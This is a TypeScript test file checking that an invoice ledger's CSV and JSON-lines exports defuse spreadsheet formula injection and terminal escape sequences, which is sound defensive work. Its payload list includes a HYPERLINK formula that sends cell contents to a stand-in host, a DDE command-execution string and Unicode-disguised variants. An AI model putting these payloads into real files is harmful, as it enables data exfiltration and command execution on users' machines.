import type { InvoiceSummary } from '@fapiao-ledger/client';
import { parseCsv } from '@fapiao-ledger/client/drafts';
import { describe, expect, it } from 'vitest';
import { INVOICE_RECORDS, JSON_LINES_FORMAT } from '../../cli/src/lists/list-records.ts';
import { dateCell, numberCell, textCell } from '../../cli/src/lists/spreadsheet.ts';
import { BUYER, SELLER } from '../support/draft.ts';

const PAYLOADS = [
  `=HYPERLINK("http://x.example/?"&A1,"open")`,
  `=cmd|' /C calc'!A0`,
  '=1+1',
  '+1+1',
  '-1+1',
  '-12.00',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttext',
  '\rtext',
  ' =1+1',
  '\u00A0=1+1',
  '\u3000＝1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '"=1+1',
  'a;=1+1;b',
  'a\t@SUM(1)',
  'a\r\n-1+1',
  "'=1+1",
];

/** Characters on which a terminal acts when a user shows the file: ESC and CSI begin commands, U+202E turns text around. */
const COMMANDS = [
  '\u001B[2J',
  '\u001B]0;title\u0007',
  '\u009B2J',
  'a\u0000b',
  'a\u007Fb',
  'a\u202Eb',
  'a\u2028b',
];
const ACTS = /(?![\r\n])[\p{Cc}\u061C\u200E\u200F\u2028-\u202E\u2066-\u2069]/u;

/** Beginnings of a cell that a spreadsheet runs. */
const RUNS = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/u;

function invoice(changes: Partial<InvoiceSummary> = {}): InvoiceSummary {
  return {
    number: '26442000000000000001',
    profile: 'DIGITAL',
    type: 'ORDINARY',
    date: '2026-03-01',
    seller: { code: SELLER, name: '深圳示范软件有限公司' },
    buyer: { type: 'ENTERPRISE', code: BUYER, name: '深圳示范采购有限公司' },
    rates: ['0.13'],
    totals: { net: '100.00', tax: '13.00', gross: '113.00' },
    state: 'OPEN',
    holder: BUYER,
    rest: '113.00',
    ...changes,
  };
}

/** Every field of an invoice that is text, or that a gateway could make text, with `payload` in it. */
function poisoned(payload: string): [column: string, invoice: InvoiceSummary][] {
  const { seller, buyer, totals } = invoice();
  return [
    ['number', invoice({ number: payload })],
    ['profile', invoice({ profile: payload as InvoiceSummary['profile'] })],
    ['type', invoice({ type: payload as InvoiceSummary['type'] })],
    ['date', invoice({ date: payload })],
    ['sellerCode', invoice({ seller: { ...seller, code: payload } })],
    ['sellerName', invoice({ seller: { ...seller, name: payload } })],
    ['buyerType', invoice({ buyer: { ...buyer, type: payload as InvoiceSummary['buyer']['type'] } })],
    ['buyerCode', invoice({ buyer: { ...buyer, code: payload } })],
    ['buyerName', invoice({ buyer: { ...buyer, name: payload } })],
    ['rates', invoice({ rates: [payload] })],
    ['net', invoice({ totals: { ...totals, net: payload } })],
    ['tax', invoice({ totals: { ...totals, tax: payload } })],
    ['gross', invoice({ totals: { ...totals, gross: payload } })],
    ['state', invoice({ state: payload as InvoiceSummary['state'] })],
    ['holder', invoice({ holder: payload })],
    ['rest', invoice({ rest: payload })],
    ['ref', invoice({ ref: payload })],
  ];
}

const AMOUNTS = ['net', 'tax', 'gross', 'rest', 'rates'];

function cellsOf(record: string): readonly string[] {
  return parseCsv(record)[0]?.cells ?? [];
}

describe('a record for spreadsheets', () => {
  it('has amounts as numbers, digits as text, and nothing else changed', () => {
    expect(cellsOf(INVOICE_RECORDS.csv.record(invoice()))).toEqual([
      "'26442000000000000001",
      'DIGITAL',
      'ORDINARY',
      '2026-03-01',
      SELLER,
      '深圳示范软件有限公司',
      'ENTERPRISE',
      `'${BUYER}`,
      '深圳示范采购有限公司',
      '0.13',
      '100.00',
      '13.00',
      '113.00',
      'OPEN',
      `'${BUYER}`,
      '113.00',
      '',
    ]);
  });

  it('begins with a byte order mark, and names its columns', () => {
    expect(INVOICE_RECORDS.csv.head).toBe(`\uFEFF${INVOICE_RECORDS.columns.join(',')}\r\n`);
  });

  it('leaves the fields empty that a person has not', () => {
    const cells = cellsOf(INVOICE_RECORDS.csv.record(invoice({ buyer: { type: 'PERSON' } })));
    expect(cells.slice(6, 9)).toEqual(['PERSON', '', '']);
  });

  it.each(COMMANDS)('nor one for programs has anything that a terminal acts upon: %j', (payload) => {
    for (const [column, poison] of poisoned(payload)) {
      expect(INVOICE_RECORDS.csv.record(poison), column).not.toMatch(ACTS);
      const line = JSON_LINES_FORMAT.record(poison);
      expect(line, column).not.toMatch(ACTS);
      expect(JSON.parse(line)).toEqual(poison);
    }
  });

  it('is tested in every column', () => {
    expect(poisoned('').map(([column]) => column)).toEqual(INVOICE_RECORDS.columns);
  });

  it.each(PAYLOADS)('runs no formula, wherever it stands: %j', (payload) => {
    for (const [column, poison] of poisoned(payload)) {
      const cells = cellsOf(INVOICE_RECORDS.csv.record(poison));
      expect(cells).toHaveLength(INVOICE_RECORDS.columns.length);
      const cell = cells[INVOICE_RECORDS.columns.indexOf(column)] ?? '';
      const isAmount = AMOUNTS.includes(column) && payload === '-12.00';
      expect(RUNS.test(cell), `${column}: ${JSON.stringify(cell)}`).toBe(isAmount);
      expect(/^[\t\r\n]/.test(cell)).toBe(false);
    }
  });

  it.each(PAYLOADS)('runs none where semicolons or tabs separate cells: %j', (payload) => {
    const pieces = textCell(payload).split(/[;|\t\r\n]/);
    expect(pieces.filter((piece) => RUNS.test(piece))).toEqual([]);
  });
});

describe('a cell', () => {
  it.each([
    ['plain text', '深圳示范 A-1 (北京)', '深圳示范 A-1 (北京)'],
    ['a code with letters', SELLER, SELLER],
    ['twenty digits', '26442000000000000001', "'26442000000000000001"],
    ['what looks like a power of ten', '12E5', "'12E5"],
    ['what looks like a date', '3/4', "'3/4"],
    ['an apostrophe in front', "'s-Hertogenbosch", "''s-Hertogenbosch"],
    ['quotes and commas', 'a "b", c', '"a ""b"", c"'],
    ['nothing', '', ''],
  ])('as text: %s', (_desc, text, want) => {
    expect(textCell(text)).toBe(want);
  });

  it.each(['0.00', '113.00', '-113.00', '9999999999999.99', '0.13'])(
    'as a number stays as it is: %s',
    (text) => {
      expect(numberCell(text)).toBe(text);
    },
  );

  it.each([
    ['more digits than a spreadsheet keeps', '99999999999999.00', "'99999999999999.00"],
    ['several rates', '0.06 0.13', "'0.06 0.13"],
    ['a sum in disguise', '-1+1', "'-1+1"],
    ['a number with something behind', '1.00\n=1', '1.00\\u000A=1'],
  ])('as a number that is none becomes text: %s', (_desc, text, want) => {
    expect(numberCell(text)).toBe(want);
  });

  it('as a date stays as it is, and what is none becomes text', () => {
    expect(dateCell('2026-03-01')).toBe('2026-03-01');
    expect(dateCell('-12.00')).toBe("'-12.00");
  });
});
